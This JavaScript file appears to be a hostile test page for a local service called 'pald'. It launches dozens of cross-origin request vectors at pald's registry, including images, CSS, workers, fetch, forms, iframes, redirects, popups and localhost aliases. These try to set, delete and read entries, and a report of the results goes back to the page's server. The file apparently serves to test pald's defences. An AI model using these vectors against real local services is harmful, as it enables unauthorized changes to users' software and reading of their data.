// A page that wants to change pald's registry. It starts every vector, each with a service name of
// its own, and then tells its server which ones it has tried and what it could read.

const settings = new URLSearchParams(location.search);
const place = settings.get("place");
const door = settings.get("door");
const kept = settings.get("kept");
const victims = settings.get("victims").split(",");
const popups = [];
// Promises that media which the page has started were refused.
const media = [];

// Addresses. The server of this page answers at /hostile/reply with the headers it is asked for.
const set = (name) => `${door}/set?service=${name}&vector=${name}`;
const reply = (headers, body = "") =>
  `${location.origin}/hostile/reply?${new URLSearchParams({ ...headers, body })}`;
const html = (body, headers = {}) => reply({ "Content-Type": "text/html", ...headers }, body);
const script = (body) => reply({ "Content-Type": "text/javascript" }, body);
const redirect = (status, url) => reply({ status, Location: url });
// The same address by another name of the host.
const at = (host, url) => url.replace(new URL(door).host, `${host}:${new URL(door).port}`);
const inQuotes = (text) => JSON.stringify(text);

// Ways to start a request.
function element(tag, attributes = {}, parent = document.body) {
  const created = document.createElement(tag);
  for (const [name, value] of Object.entries(attributes)) created.setAttribute(name, value);
  parent.append(created);
  return created;
}
const img = (src) => element("img", { src });
const frame = (src, more = {}) => element("iframe", { src, ...more });
const refused = (element) => media.push(new Promise((done) => (element.onerror = done)));
const link = (rel, more = {}) => (href) => element("link", { rel, href, ...more }, document.head);
const svg = (body) => element("div").insertAdjacentHTML("beforeend", `<svg>${body}</svg>`);
const popup = (url, features = "") => popups.push(open(url, "_blank", features));
const named = (tag, name) => element(tag, { name, id: name });
const worker = (body, more) => new Worker(script(body), more);
function style(text) {
  element("style", {}, document.head).append(text);
}
function styled(css) {
  element("p", { style: css }).append("text");
}
// A form sends `inBody` of the address's parameters as fields and the others in its query.
function form(url, more = {}, inBody = []) {
  const action = new URL(url);
  const created = element("form", { ...more, target: more.target ?? named("iframe", url).id });
  for (const name of inBody) {
    const value = action.searchParams.get(name);
    if (value !== null) element("input", { type: "hidden", name, value }, created);
    action.searchParams.delete(name);
  }
  created.action = action;
  created.submit();
}
const formText = (url, more = "") =>
  `<form action=${inQuotes(url)} method=post ${more}></form><script>document.forms[0].submit()</script>`;
const all = ["service", "port", "vector"];
const values = ["service", "port"];
// The address without the parameters that a body carries, and that body.
function split(url) {
  const rest = new URL(url);
  const body = new URLSearchParams();
  for (const name of values) {
    if (rest.searchParams.has(name)) body.set(name, rest.searchParams.get(name));
    rest.searchParams.delete(name);
  }
  return [rest.href, body];
}
const post = (url, body, more = {}) => fetch(url, { method: "POST", mode: "no-cors", body, ...more });
function xhr(url, method, body, more = {}) {
  const request = Object.assign(new XMLHttpRequest(), more);
  request.open(method, url);
  request.send(body);
}

const vectors = {
  "img": img,
  "img-cors": (src) => element("img", { src, crossorigin: "use-credentials" }),
  "img-srcset": (url) => element("img", { srcset: `${url} 1x, ${url} 2x` }),
  "img-constructor": (url) => (new Image().src = url),
  "img-no-referrer": (src) => element("img", { src, referrerpolicy: "no-referrer" }),
  "picture": (srcset) => element("img", {}, element("picture")).before(element("source", { srcset })),
  "input-image": (src) => element("input", { type: "image", src }),
  "body-background": (background) => element("body", { background }, document.documentElement),
  "video": (src) => refused(element("video", { src, preload: "auto" })),
  "video-poster": (poster) => element("video", { poster }),
  "audio": (src) => refused(element("audio", { src, preload: "auto" })),
  "source": (src) => refused(element("source", { src }, element("video", { preload: "auto" }))),
  "track": (src) => {
    const video = element("video", { crossorigin: "anonymous", src: reply({}) });
    element("track", { src, kind: "subtitles", default: "" }, video).track.mode = "showing";
  },
  "embed": (src) => element("embed", { src }),
  "object": (data) => element("object", { data }),
  "svg-image": (url) => svg(`<image href="${url}" width="9" height="9"/>`),
  "svg-use": (url) => svg(`<use href="${url}#a"/>`),
  "svg-filter": (url) => svg(`<filter id="f"><feImage href="${url}"/></filter><text y="9" filter="url(#f)">x</text>`),

  "script": (src) => element("script", { src }),
  "script-module": (src) => element("script", { src, type: "module" }),
  "import": (url) => import(url),
  "worker": (url) => new Worker(url),
  "worker-import-scripts": (url) => worker(`importScripts(${inQuotes(url)})`),
  "worker-fetch": (url) => worker(`fetch(${inQuotes(url)}, { mode: "no-cors" })`),
  "worker-module": (url) => worker(`import ${inQuotes(url)}`, { type: "module" }),
  "worker-blob": (url) => new Worker(URL.createObjectURL(new Blob([`importScripts(${inQuotes(url)})`]))),
  "shared-worker": (url) => new SharedWorker(script(`importScripts(${inQuotes(url)})`)),
  "service-worker": (url) => navigator.serviceWorker.register(script(`importScripts(${inQuotes(url)})`)),
  "audio-worklet": (url) => new OfflineAudioContext(1, 1, 8000).audioWorklet.addModule(url),
  "paint-worklet": (url) => CSS.paintWorklet.addModule(url),

  "link-stylesheet": link("stylesheet"),
  "link-icon": link("icon"),
  "link-manifest": link("manifest"),
  "link-prefetch": link("prefetch"),
  "link-prerender": link("prerender"),
  "link-preload": link("preload", { as: "image" }),
  "link-preload-fetch": link("preload", { as: "fetch", crossorigin: "anonymous" }),
  "link-modulepreload": link("modulepreload"),
  "link-header": (url) => frame(html("", { Link: `<${url}>; rel=preload; as=script` })),
  "speculation-prefetch": (url) => speculate("prefetch", url),
  "speculation-prerender": (url) => speculate("prerender", url),
  "css-background": (url) => styled(`background: url("${url}")`),
  "css-content": (url) => styled(`content: url("${url}")`),
  "css-list": (url) => styled(`display: list-item; list-style: url("${url}")`),
  "css-border": (url) => styled(`border: 3px solid; border-image: url("${url}") 3`),
  "css-mask": (url) => styled(`mask-image: url("${url}")`),
  "css-image-set": (url) => styled(`background: image-set("${url}" 1x)`),
  "css-import": (url) => style(`@import url("${url}");`),
  "css-font": (url) => {
    style(`@font-face { font-family: "${url}"; src: url("${url}"); }`);
    styled(`font-family: "${url}"`);
  },
  "font-face": (url) => new FontFace("stolen", `url("${url}")`).load(),
  "xml-stylesheet": (url) =>
    frame(reply({ "Content-Type": "text/xml" }, `<?xml-stylesheet type="text/css" href="${url.replaceAll("&", "&amp;")}"?><a/>`)),

  "fetch-cors": (url) => fetch(url),
  "fetch-no-cors": (url) => fetch(url, { mode: "no-cors" }),
  "fetch-same-origin": (url) => fetch(url, { mode: "same-origin" }),
  "fetch-credentials": (url) => fetch(url, { mode: "no-cors", credentials: "include" }),
  "fetch-no-referrer": (url) => fetch(url, { mode: "no-cors", referrerPolicy: "no-referrer" }),
  "fetch-keepalive": (url) => fetch(url, { mode: "no-cors", keepalive: true }),
  "fetch-later": (url) => fetchLater(url, { activateAfter: 0 }),
  "fetch-post": (url) => post(url),
  "fetch-post-keepalive": (url) => post(url, undefined, { keepalive: true }),
  "fetch-post-form": (url) => post(...split(url)),
  "fetch-post-text": (url) => post(url, "text"),
  "fetch-post-multipart": (url) => post(url, new FormData()),
  "fetch-put": (url) => fetch(url, { method: "PUT" }),
  "fetch-preflight": (url) => fetch(url, { headers: { "X-Hostile": "1" } }),
  "xhr": (url) => xhr(url, "GET"),
  "xhr-credentials": (url) => xhr(url, "GET", undefined, { withCredentials: true }),
  "xhr-post": (url) => xhr(split(url)[0], "POST", split(url)[1]),
  "beacon": (url) => navigator.sendBeacon(url),
  "beacon-form": (url) => navigator.sendBeacon(...split(url)),
  "event-source": (url) => new EventSource(url),
  "web-socket": (url) => new WebSocket(url.replace("http:", "ws:")),

  "iframe": frame,
  "frameset": (url) => frame(html(`<frameset><frame src=${inQuotes(url)}></frameset>`)),
  "iframe-sandbox": (url) => frame(url, { sandbox: "" }),
  "iframe-srcdoc": (url) => element("iframe", { srcdoc: `<img src=${inQuotes(url)}>` }),
  "iframe-srcdoc-form": (url) => element("iframe", { srcdoc: formText(url), sandbox: "allow-scripts allow-forms" }),
  "iframe-data": (url) => frame(`data:text/html,${encodeURIComponent(`<img src=${inQuotes(url)}>`)}`),
  "iframe-blob": (url) => frame(URL.createObjectURL(new Blob([formText(url)], { type: "text/html" }))),
  "iframe-javascript": (url) => frame(`javascript:location=${encodeURIComponent(inQuotes(url))}`),
  "iframe-location": (url) => frame(html(`<script>location = ${inQuotes(url)}</script>`)),
  "iframe-meta-refresh": (url) => frame(html(`<meta http-equiv="refresh" content="0;url=${url}">`)),
  "iframe-refresh-header": (url) => frame(html("", { Refresh: `0;url=${url}` })),
  "iframe-report": (url) =>
    frame(html(`<img src="x:">`, { "Content-Security-Policy": `img-src 'none'; report-uri ${url}` })),
  "form-get": (url) => form(url, {}, all),
  "form-post": (url) => form(url, { method: "post" }),
  "form-post-fields": (url) => form(url, { method: "post" }, values),
  "form-post-text": (url) => form(url, { method: "post", enctype: "text/plain" }),
  "form-post-multipart": (url) => form(url, { method: "post", enctype: "multipart/form-data" }, values),
  "form-redirect-307": (url) => form(redirect(307, url), { method: "post" }),
  "a-click": (href) => element("a", { href, target: named("iframe", href).id }).click(),
  "a-ping": (ping) => element("a", { ping, href: "#a" }).click(),

  "img-redirect-301": (url) => img(redirect(301, url)),
  "img-redirect-302": (url) => img(redirect(302, url)),
  "img-redirect-307": (url) => img(redirect(307, url)),
  "fetch-redirect-302": (url) => fetch(redirect(302, url), { mode: "no-cors" }),
  "fetch-redirect-308": (url) => post(redirect(308, url)),
  "script-redirect-303": (url) => element("script", { src: redirect(303, url) }),
  "iframe-redirect-302": (url) => frame(redirect(302, url)),
  "redirect-twice": (url) => img(redirect(302, redirect(302, url))),

  "host-localhost": (url) => img(at("localhost", url)),
  "host-127.0.0.1": (url) => img(at("127.0.0.1", url)),
  "host-0.0.0.0": (url) => img(at("0.0.0.0", url)),
  "host-127.1": (url) => img(at("127.1", url)),
  "host-mapped": (url) => img(at("[::ffff:127.0.0.1]", url)),
  "host-dot": (url) => img(at("localhost.", url)),
  "host-below": (url) => img(at("pald.localhost", url)),
};

// These come last: a page that is behind a window of its own loads no media.
const windows = {
  "form-post-popup": (url) => form(url, { method: "post", target: "_blank" }),
  "a-no-referrer": (href) => element("a", { href, target: "_blank", rel: "noreferrer" }).click(),
  "a-download": (href) => element("a", { href, download: "x", target: "_blank" }).click(),
  "window-open": (url) => popup(url),
  "window-open-no-opener": (url) => popup(url, "noopener,noreferrer"),
  "top-location": (url) => popup(html(`<script>location = ${inQuotes(url)}</script>`)),
  "top-meta-refresh": (url) => popup(html(`<meta http-equiv="refresh" content="0;url=${url}">`)),
  "top-form": (url) => popup(html(formText(url))),
  "top-blank": (url) => open("about:blank", "_blank").document.write(`<img src="${url}">`),
  "top-redirect-302": (url) => popup(redirect(302, url)),
  "host-password": (url) => popup(at("user:password@127.0.0.1", url)),
};

function speculate(what, url) {
  const rules = JSON.stringify({ [what]: [{ urls: [url], eagerness: "immediate" }] });
  element("script", { type: "speculationrules" }).textContent = rules;
}

const deletions = ["img", "fetch-no-cors", "form-post-fields", "top-location"];
const lookups = {
  "fetch": async (url) => (await fetch(url)).text(),
  "xhr": (url) =>
    new Promise((resolve, reject) => {
      const request = new XMLHttpRequest();
      request.onload = () => resolve(request.responseText);
      request.onerror = () => reject(new Error("unreadable"));
      request.open("GET", url);
      request.send();
    }),
};

// The lines of the report: `tried VECTOR`, `failed VECTOR` and `read VECTOR TEXT`.
const report = [];

function start(name, run) {
  try {
    // What comes of it is seen at pald's door and not here.
    Promise.resolve(run()).catch(() => {});
    report.push(`tried ${name}`);
  } catch {
    report.push(`failed ${name}`);
  }
}
function startAll(table) {
  for (const [vector, run] of Object.entries(table)) {
    const name = `${place}.${vector}`;
    start(name, () => run(set(name)));
  }
}

async function attack() {
  startAll(vectors);
  // A browser need not load media at all, so the page does not wait for long.
  const enough = new Promise((done) => setTimeout(done, 1000));
  await Promise.race([Promise.all(media), enough]);
  startAll(windows);
  deletions.forEach((vector, index) => {
    const name = `${place}.del-${vector}`;
    start(name, () => ({ ...vectors, ...windows })[vector](`${door}/del?port=${victims[index]}&vector=${name}`));
  });
  for (const [vector, read] of Object.entries(lookups)) {
    const name = `${place}.get-${vector}`;
    const text = read(`${door}/get?service=${kept}&vector=${name}`);
    report.push(`tried ${name}`);
    await text.then((text) => report.push(`read ${name} ${text.trim()}`), () => {});
  }
  const answer = await fetch("/hostile/done", { method: "POST", body: report.join("\n") });
  const next = await answer.text();
  for (const popup of popups) popup?.close();
  // The next place gets a window that is in front.
  if (next !== "") open(next, "_blank");
  location = "about:blank";
}

addEventListener("load", attack);
